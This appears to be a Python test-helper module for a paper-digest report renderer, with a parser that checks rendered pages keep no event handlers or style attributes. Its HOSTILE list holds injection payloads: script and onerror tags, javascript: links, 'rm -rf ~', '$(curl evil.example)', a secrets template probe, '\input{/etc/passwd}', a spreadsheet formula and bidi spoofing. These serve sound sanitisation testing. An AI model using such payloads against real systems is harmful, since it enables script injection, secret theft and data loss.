"""Reports as tests render them: editions to pages, pages to their outlines, and hostile text."""

from collections.abc import Mapping
from functools import cache
from html.parser import HTMLParser
from pathlib import Path

import cmarkgfm
from cmarkgfm.cmark import Options
from jinja2 import Environment

from digest import report as layout
from digest.assets import Assets
from digest.records import CitedSentence, Paper, Share, SourceLine, Synthesis
from tests.invented import paper, reading, report

HOSTILE = [
    "<script>alert('x')</script><img src=x onerror=alert(1)> </title></head>",
    "[Read me](javascript:alert(1)) ![pixel](https://evil.example/p.png) | a | `tick` **bold** ~~gone~~",
    "# Heading\n\n| col |\n|---|\n| x |\n\n```sh\nrm -rf ~\n```\n> quote\n\n- [ ] item\n\n---\n",
    "Leaking ${{ secrets.X }} with $(curl evil.example) {{ 7*7 }} {% include 'x' %} <%= 1 %>",
    "Right-to-left \u202egnp.exe\u202c zero\u200bwidth \u2066iso\u2069 \x00\x07\x1b[31mred \u2028 \u2029",
    "@octocat #123 GH-1 octo/repo#5 https://evil.example/ www.evil.example a@evil.example",
    ":rocket: [^1] $x$ &lt;b&gt;",
    "</details></summary><a id='health'></a><!-- -->",
    "대규모 언어 모델 🤖👩‍🔬 تقييم 大型语言模型",
    "=HYPERLINK(\"https://evil.example\") --- - key: 'value'",
    "1. one\n2. two\n* * *\n+ plus\n\tcode",
    r"$\mathcal{O}(n)$ \textbf{bold} \href{javascript:alert(1)}{link} \input{/etc/passwd}",
    "]( https://evil.example ) [x]: https://evil.example \\",
]


class Outline(HTMLParser):
    """The tags, links, pictures and visible text of a page."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.addresses: list[str] = []
        self.text = ""
        html = cmarkgfm.github_flavored_markdown_to_html(
            page, Options.CMARK_OPT_UNSAFE | Options.CMARK_OPT_FOOTNOTES
        )
        self.feed(html)

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        told = dict(attributes)
        assert not any(name.startswith("on") or name == "style" for name in told), told
        self.addresses += [told[name] or "" for name in ("href", "src") if name in told]

    def handle_data(self, data: str) -> None:
        self.text += data


Outlines = dict[str, tuple[list[str], list[str]]]


def outlines(pages: Mapping[str, str]) -> Outlines:
    """The tags and addresses of every page; a bare span is how money keeps its dollar sign on GitHub."""
    found = {path: Outline(text) for path, text in pages.items()}
    return {path: ([t for t in o.tags if t != "span"], o.addresses) for path, o in found.items()}


def language(code: str = "en", first: bool = True) -> layout.Language:
    return layout.Language(code, Assets(Path()).strings(code), first)


@cache
def environment() -> Environment:
    return Assets(Path()).environment(layout.FILTERS)


def pages(edition: layout.Edition, code: str = "en", first: bool = True, site: str = "") -> dict[str, str]:
    others = [language("ko", first=False)] if code == "en" else [language("en")]
    return layout.render(edition, language(code, first), others, "Daily Paper Digest", environment(), site)


def edition(papers: list[Paper], **fields: object) -> layout.Edition:
    """An edition whose papers are of language and vision by turns, with a synthesis and means."""
    readings = tuple(reading(p, ("language", "vision")[n % 2], secondary=("other",)) for n, p in enumerate(papers))
    counts = {slug: sum(e.primary == slug for e in readings) for slug in ("language", "vision")}
    told: dict[str, object] = {
        "shares": tuple(Share(slug, count, 1.5) for slug, count in counts.items()),
        "mean_total": 3.0,
        "sources": (SourceLine("arxiv", "feed", len(papers)),),
        "syntheses": (Synthesis("language", (CitedSentence(readings[0].tldr, (papers[0].id,)),), True),),
    }
    return layout.Edition(report(new=len(papers), **{**told, **fields}), tuple(papers), readings)


def plain_edition() -> layout.Edition:
    return edition([paper(n) for n in range(1, 6)])
